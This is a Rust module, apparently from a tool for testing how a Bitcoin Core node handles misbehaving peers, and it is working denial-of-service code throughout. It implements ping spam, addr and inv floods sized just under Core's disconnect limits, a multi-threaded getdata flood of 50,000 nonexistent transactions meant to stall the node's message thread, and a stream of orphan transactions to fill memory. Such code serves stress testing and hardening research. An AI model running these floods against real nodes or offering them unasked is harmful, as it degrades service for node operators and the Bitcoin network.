//! More messages or entries than an honest peer sends.

use std::io;
use std::net::SocketAddr;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use bitcoin::absolute::LockTime;
use bitcoin::hashes::Hash;
use bitcoin::p2p::message::NetworkMessage;
use bitcoin::p2p::message_blockdata::Inventory;
use bitcoin::p2p::{Address, ServiceFlags};
use bitcoin::transaction::Version;
use bitcoin::{
    Amount, OutPoint, ScriptBuf, Sequence, Transaction, TxIn, TxOut, Txid, WPubkeyHash, Witness, Wtxid,
};

use super::random::Random;
use super::{Peer, repeat, wire};

/// MAX_INV_SZ of Bitcoin Core: entries of one inv or getdata.
pub(super) const INV_ENTRIES_MAX: usize = 50_000;
/// Entries of one addr, MAX_ADDR_TO_SEND of Bitcoin Core.
pub(super) const ADDR_ENTRIES_MAX: usize = 1_000;

/// Pings at this rate. Returns how many were sent.
pub fn ping_spam(peer: &Peer, per_second: u32, duration: Duration) -> io::Result<u64> {
    repeat(Duration::from_secs(1) / per_second, duration, || peer.ping())
}

/// Announces random addresses, so many (up to 1000) in each message. Returns how many messages were sent.
///
/// Bitcoin Core takes all of them for routable; they are of the reserved 240.0.0.0/5, where no node is.
pub fn addr_flood(peer: &Peer, entries: usize, every: Duration, duration: Duration) -> io::Result<u64> {
    assert!(entries <= ADDR_ENTRIES_MAX, "{entries} addresses are misbehaviour and end the connection");
    let mut random = Random::next_of_program();
    repeat(every, duration, || peer.send(addresses(&mut random, entries)))
}

/// Announces random transactions by wtxid, so many (up to 50,000) in each message. Returns how many messages were sent.
pub fn inv_flood(peer: &Peer, entries: usize, every: Duration, duration: Duration) -> io::Result<u64> {
    assert!(entries <= INV_ENTRIES_MAX, "{entries} announcements are misbehaviour and end the connection");
    let mut random = Random::next_of_program();
    repeat(every, duration, || peer.send(announcements(&mut random, entries)))
}

/// Each peer asks for 50,000 transactions that do not exist, again and again, as fast as the node takes it. Returns how
/// many messages were sent in all.
///
/// The thread that handles all messages looks up each entry, which takes it some ten milliseconds a message. The others
/// wait as many times that long as there are peers here, unless the machine has no processor left for the peers.
pub fn getdata_flood(peers: &[Peer], duration: Duration) -> io::Result<u64> {
    let mut random = Random::next_of_program();
    let asked = (0..INV_ENTRIES_MAX).map(|_| Inventory::WTx(Wtxid::from_byte_array(random.hash()))).collect();
    // The same each time and for all, because making the message takes longer than sending it.
    let frame = &wire::frame(NetworkMessage::GetData(asked));
    let flood = |peer| repeat(Duration::from_millis(1), duration, || Peer::send_frame(peer, frame));
    std::thread::scope(|scope| {
        let attackers: Vec<_> = peers.iter().map(|peer| scope.spawn(move || flood(peer))).collect();
        attackers.into_iter().map(|attacker| attacker.join().expect("an attacker does not panic")).sum()
    })
}

/// Sends small standard transactions that spend outputs nobody knows. Returns how many were sent.
///
/// They are pushed without being asked for; the node keeps them as orphans all the same. Asked for their parents, the
/// peer says that it has none. The node must be out of initial block download: mine a block first.
pub fn orphans(peer: &Peer, per_second: u32, duration: Duration) -> io::Result<u64> {
    let mut random = Random::next_of_program();
    repeat(Duration::from_secs(1) / per_second, duration, || {
        peer.send(NetworkMessage::Tx(orphan(&mut random)))
    })
}

/// An addr message of random addresses that were seen just now.
pub(super) fn addresses(random: &mut Random, entries: usize) -> NetworkMessage {
    let now = SystemTime::now().duration_since(UNIX_EPOCH).expect("after 1970").as_secs() as u32;
    let services = ServiceFlags::NETWORK | ServiceFlags::WITNESS;
    let address = |random: &mut Random| {
        let socket = SocketAddr::from((random.unused_address(), 8333));
        (now, Address::new(&socket, services))
    };
    NetworkMessage::Addr((0..entries).map(|_| address(random)).collect())
}

/// An inv message of random transactions.
pub(super) fn announcements(random: &mut Random, entries: usize) -> NetworkMessage {
    NetworkMessage::Inv((0..entries).map(|_| Inventory::WTx(Wtxid::from_byte_array(random.hash()))).collect())
}

/// One input that looks like a spend of a P2WPKH output, one P2WPKH output well above dust.
fn orphan(random: &mut Random) -> Transaction {
    let parent = OutPoint { txid: Txid::from_byte_array(random.hash()), vout: 0 };
    // Lengths of a signature and a public key; nobody checks them before the parent is there.
    let witness = Witness::from_slice(&[vec![0x30; 71], vec![0x02; 33]]);
    let mut key_hash = [0; 20];
    key_hash.copy_from_slice(&random.hash()[..20]);
    Transaction {
        version: Version::TWO,
        lock_time: LockTime::ZERO,
        input: vec![TxIn {
            previous_output: parent,
            script_sig: ScriptBuf::new(),
            sequence: Sequence::ENABLE_RBF_NO_LOCKTIME,
            witness,
        }],
        output: vec![TxOut {
            value: Amount::from_sat(100_000),
            script_pubkey: ScriptBuf::new_p2wpkh(&WPubkeyHash::from_byte_array(key_hash)),
        }],
    }
}
